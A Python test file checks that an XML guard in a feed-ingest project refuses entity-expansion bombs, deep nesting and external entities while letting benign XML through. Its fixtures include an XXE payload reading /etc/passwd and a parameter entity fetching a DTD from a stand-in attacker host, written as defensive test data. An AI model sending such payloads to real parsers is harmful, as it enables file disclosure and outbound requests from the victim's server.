"""XML that would hurt a parser is refused before one sees it."""

import pytest

from broadsheet.core import ParseError, TooLargeError
from broadsheet.ingest.xmlguard import check_xml

LAUGHS = b"""<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><rss>&c;</rss>"""
OUTSIDE = b"""<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss>&a;</rss>"""
PARAMETER = b"""<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><rss/>"""


@pytest.mark.parametrize("document", [LAUGHS, OUTSIDE, PARAMETER])
def test_dangerous_entities_are_refused(document: bytes) -> None:
    with pytest.raises(ParseError, match="entities"):
        check_xml(document)


def test_an_entity_for_a_character_is_let_through() -> None:
    assert check_xml(b'<!DOCTYPE rss [<!ENTITY eacute "&#233;">]><rss>caf&eacute;</rss>')


def test_elements_nested_without_end_are_refused() -> None:
    with pytest.raises(TooLargeError, match="nests"):
        check_xml(b"<rss>" + b"<a>" * 5000)


def test_ill_formed_xml_is_left_to_the_tolerant() -> None:
    assert not check_xml(b"<rss><item>a & b</rss>")


def test_well_formed_xml_is_known() -> None:
    assert check_xml("<rss><title>隧道</title></rss>".encode())
